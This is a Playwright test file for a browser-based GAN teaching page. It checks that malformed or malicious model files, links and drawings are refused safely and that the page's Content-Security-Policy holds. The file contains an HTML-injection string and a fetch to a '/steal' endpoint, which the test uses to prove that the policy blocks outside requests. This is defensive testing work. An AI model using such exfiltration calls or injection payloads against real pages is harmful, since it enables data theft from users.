"""Hostile input in the page: files, links and drawings that once broke it, and the
Content-Security-Policy it runs under. Each test checks the message the learner
sees and that nothing they had changed (the `page` fixture also fails any test
whose page logs an error or requests another origin)."""
from __future__ import annotations

import json
import re
import sys
import urllib.request
from pathlib import Path

import pytest
from playwright.sync_api import expect

sys.path.insert(0, str(Path(__file__).resolve().parent))
from pagekit import snapshot, wait_snapshot  # noqa: E402

import build  # noqa: E402
from ganlab import modelfile  # noqa: E402
from ganlab.gan import Trainer  # noqa: E402
from ganlab.state import DEFAULTS  # noqa: E402

pytestmark = pytest.mark.browser


def _load(page, path):
    page.set_input_files("#load-model", str(path))


def _good_model() -> dict:
    t = Trainer()
    t.train(20)
    return modelfile.to_dict(t)


def _trains_on(page, before: int) -> None:
    """The page still trains: n epochs more than `before`."""
    assert page.evaluate("() => window.ganlab.train(3)") == before + 3


@pytest.mark.parametrize("levels", [5_000, 10_000])
def test_a_deeply_nested_model_file_is_refused_with_a_message(page, site_url, open_ready, tmp_path, levels):
    open_ready(page, site_url)
    page.evaluate("() => window.ganlab.train(7)")
    before = snapshot(page)
    bad = tmp_path / "deep.json"
    bad.write_text("[" * levels + "]" * levels)
    _load(page, bad)
    expect(page.locator("#message")).to_contain_text(
        f"Model not loaded: deep.json: not a ganlab model file: it is nested {levels} levels deep")
    assert snapshot(page)["fake"] == before["fake"]
    _trains_on(page, 7)


def test_a_model_file_with_a_huge_integer_is_refused(page, site_url, open_ready, tmp_path):
    open_ready(page, site_url)
    text = json.dumps(dict(_good_model(), epoch=1)).replace('"epoch": 1', '"epoch": ' + "9" * 5000)
    bad = tmp_path / "huge.json"
    bad.write_text(text)
    _load(page, bad)
    expect(page.locator("#message")).to_contain_text("a whole number with more than 4,300 digits")
    assert snapshot(page)["epoch"] == 0
    _trains_on(page, 0)


def test_a_model_file_with_a_zero_stride_is_refused_and_play_still_works(page, site_url, open_ready, tmp_path):
    open_ready(page, site_url)
    d = _good_model()
    d["history"]["stride"]["losses"] = 0
    bad = tmp_path / "stride.json"
    bad.write_text(json.dumps(d))
    _load(page, bad)
    expect(page.locator("#message")).to_contain_text(
        "Model not loaded: stride.json: 'history.stride.losses' must be")
    page.get_by_role("button", name="Play").click()
    wait_snapshot(page, "s.epoch > 20")
    page.get_by_role("button", name="Pause").click()


def test_a_model_files_own_divergence_text_is_not_shown(page, site_url, open_ready, tmp_path):
    open_ready(page, site_url)
    d = dict(_good_model(), diverged="<b id=evil>pwned</b> " * 2000)
    f = tmp_path / "div.json"
    f.write_text(json.dumps(d))
    _load(page, f)
    expect(page.locator("#diverged")).to_have_text(modelfile.DIVERGED)
    assert page.locator("#evil").count() == 0


def test_a_changed_address_is_followed(page, site_url, open_ready):
    open_ready(page, site_url)
    page.evaluate("() => { location.hash = 'preset=ring&lr_d=0.05'; }")
    wait_snapshot(page, "s.settings.preset === 'ring' && s.settings.lr_d === 0.05")
    # In the page's words: each setting by its label, each choice by its name on the page.
    expect(page.locator("#message")).to_contain_text(
        "Settings from the address: Data set ring, D learning rate 0.05")
    expect(page.locator("#set-preset")).to_have_value("ring")
    # The next change keeps what the link said.
    page.fill("#set-lr_g", "0.07")
    page.press("#set-lr_g", "Tab")
    wait_snapshot(page, "s.settings.lr_g === 0.07")
    hash_ = page.evaluate("() => location.hash")
    assert "preset=ring" in hash_ and "lr_d=0.05" in hash_ and "lr_g=0.07" in hash_
    # Back: the address before the link, so the defaults.
    page.go_back()
    wait_snapshot(page, "s.settings.preset === 'gaussians'")
    assert snapshot(page)["settings"] == DEFAULTS
    page.go_forward()
    wait_snapshot(page, "s.settings.preset === 'ring' && s.settings.lr_d === 0.05")


def test_a_changed_address_with_bad_pairs_applies_the_good_ones(page, site_url, open_ready):
    open_ready(page, site_url)
    page.evaluate("() => { location.hash = 'k_d=3&lr_d=0_5&colour=red'; }")
    wait_snapshot(page, "s.settings.k_d === 3")
    assert snapshot(page)["settings"]["lr_d"] == DEFAULTS["lr_d"]
    expect(page.locator("#message")).to_contain_text("Ignored: D learning rate (lr_d) must be a number")
    expect(page.locator("#message")).to_contain_text("unknown setting 'colour'")


def test_a_link_with_thousands_of_bad_keys_gives_a_short_message(page, site_url, open_ready):
    bad = "&".join(f"bad{i}=1" for i in range(25_000))
    open_ready(page, site_url + "#" + bad)
    text = page.locator("#message").inner_text()
    assert len(text) < 300
    assert text.endswith("and 24,997 more")
    assert snapshot(page)["settings"] == DEFAULTS


def test_a_full_drawing_says_it_is_full(page, site_url, open_ready):
    open_ready(page, site_url)
    page.get_by_role("button", name="Draw", exact=True).click()
    page.locator("#view").scroll_into_view_if_needed()
    box = page.locator("#view").bounding_box()
    corners = [(box["x"] + 2, box["y"] + 2), (box["x"] + box["width"] - 2, box["y"] + box["height"] - 2),
               (box["x"] + 2, box["y"] + box["height"] - 2), (box["x"] + box["width"] - 2, box["y"] + 2)]
    count = page.locator("#draw-count")
    page.mouse.move(*corners[0])
    page.mouse.down()
    for i in range(1, 2000):    # one long zigzag stroke: ~170 points per move
        page.mouse.move(*corners[i % 4])
        if i % 50 == 0 and "most" in count.inner_text():
            break
    page.mouse.up()
    expect(count).to_have_text(re.compile(r"^100,000 points drawn: the most a drawing can hold"))
    page.get_by_role("button", name="Apply drawing").click()
    wait_snapshot(page, "s.points === 100000")


# ----- the Content-Security-Policy -------------------------------------------------------------
def test_the_built_page_and_the_server_carry_the_policy(site_url):
    policy = build.csp_header()
    for part in ("default-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'"):
        assert part in policy
    assert "unsafe-eval'" not in policy.replace("wasm-unsafe-eval", "")
    assert "unsafe-inline" not in policy
    with urllib.request.urlopen(site_url) as r:
        assert r.headers["Content-Security-Policy"] == policy
        html = r.read().decode()
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert meta and meta.group(1).replace("&#x27;", "'") == policy
    assert html.index("Content-Security-Policy") < html.index("<script")


def test_the_policy_itself_blocks_other_origins(page, site_url, open_ready, page_log):
    open_ready(page, site_url)
    result = page.evaluate("""async () => {
        const seen = [];
        document.addEventListener('securitypolicyviolation',
                                  e => seen.push([e.violatedDirective, e.blockedURI]));
        let failed = false;
        try { await fetch('http://127.0.0.2:9/steal?x=1'); } catch (e) { failed = true; }
        await new Promise(r => setTimeout(r, 200));
        return { failed, seen };
    }""")
    assert result["failed"]
    # One report per copy of the policy (the <meta> and the server's header).
    assert result["seen"] and all(v == ["connect-src", "http://127.0.0.2:9/steal?x=1"]
                                  for v in result["seen"])
    # Blocked in the page, so the test's own router never saw the request.
    assert page_log.off_origin == []
    page_log.console_errors[:] = [m for m in page_log.console_errors
                                  if "violates the following Content Security Policy" not in m
                                  and "Refused to connect" not in m]
